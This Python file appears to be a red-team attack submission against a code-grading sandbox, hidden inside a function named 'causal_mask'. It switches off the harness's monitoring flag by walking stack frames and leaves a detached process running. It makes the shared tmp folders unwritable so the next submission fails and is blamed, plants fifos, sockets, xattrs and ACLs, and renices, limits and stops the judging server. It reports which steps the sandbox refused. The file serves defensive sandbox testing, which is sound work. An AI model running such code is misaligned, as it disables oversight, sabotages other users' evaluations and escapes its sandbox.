# Red team, round 3 (attack 1, their a1_chmod_tmp.py, generalised): with the audit hook off, a
# submission changes whatever it can of the kept sandbox for the next one: the tmpfs roots' mode
# (0555: the next learner process could not make its working folder, exit 70, and the judge blamed
# the victim), extended attributes and a default ACL on them, a fifo and a socket, files under
# every writable place, processes left running, and the server's priority, scheduling and limits
# (which every later learner process inherits). Each one it reports as its name (done) or its name and errno (refused).
import ctypes
import os
import stat
import sys
import time


# a default ACL (version 2): user::r, group::r, other::r
ACL = b"\x02\x00\x00\x00" + b"".join(
    tag.to_bytes(2, "little") + (4).to_bytes(2, "little") + (2**32 - 1).to_bytes(4, "little")
    for tag in (1, 4, 32)
)


def _unwatch():
    frame = sys._getframe(1)
    while frame is not None:
        box = frame.f_locals.get("self")
        if hasattr(box, "learner") and hasattr(box, "refusals"):
            box.learner = False
        frame = frame.f_back


def _try(done, what, fn):
    try:
        fn()
        done.append(what)
    except OSError as e:
        REFUSED.append(f"{what}:{e.errno}")


REFUSED = []


def causal_mask(seq_len, device=None):
    _unwatch()
    with open(f"/proc/{os.getppid()}/stat") as f:
        server = int(f.read().rsplit(")", 1)[1].split()[1])
    done = []
    if os.fork() == 0:  # a process left running, in its own session
        os.setsid()
        time.sleep(600)
        os._exit(0)
    for place in ("/tmp", "/dev/shm"):
        t = place[1]  # t, d
        _try(done, f"{t}note", lambda p=place: open(f"{p}/note-from-A", "w").write("A"))
        _try(done, f"{t}fifo", lambda p=place: os.mkfifo(f"{p}/fifo"))
        # a socket file (socket() itself is refused by the seccomp filter: red team round 8)
        _try(done, f"{t}sock", lambda p=place: os.mknod(f"{p}/sock", stat.S_IFSOCK | 0o600))
        _try(done, f"{t}chmod", lambda p=place: os.chmod(p, 0o555))
    _try(done, "affinity", lambda: os.sched_setaffinity(server, {min(os.sched_getaffinity(0))}))
    _try(done, "renice", lambda: os.setpriority(os.PRIO_PROCESS, server, 19))
    _try(done, "renice_user", lambda: os.setpriority(os.PRIO_USER, 0, 19))
    _try(done, "idle", lambda: os.sched_setscheduler(server, os.SCHED_IDLE, os.sched_param(0)))
    _try(done, "prlimit", lambda: __import__("resource").prlimit(server, 7, (64, 64)))
    libc = ctypes.CDLL(None, use_errno=True)
    _try(done, "stop", lambda: os.kill(server, 19))
    _try(done, "tstp", lambda: os.kill(server, 20))
    if libc.syscall(200, server, 19) != 0:  # tkill (x86_64; the filter refuses on aarch64 too)
        REFUSED.append(f"tkill:{ctypes.get_errno()}")
    for place in ("/tmp", "/dev/shm"):  # refused since red team round 10: last, as the report is cut
        t = place[1]
        _try(done, f"{t}xattr", lambda p=place: os.setxattr(p, "user.note", b"A"))
        _try(done, f"{t}acl", lambda p=place: os.setxattr(p, "system.posix_acl_default", ACL))
    raise RuntimeError(f"did={','.join(done)} ; refused={','.join(REFUSED)} ;")
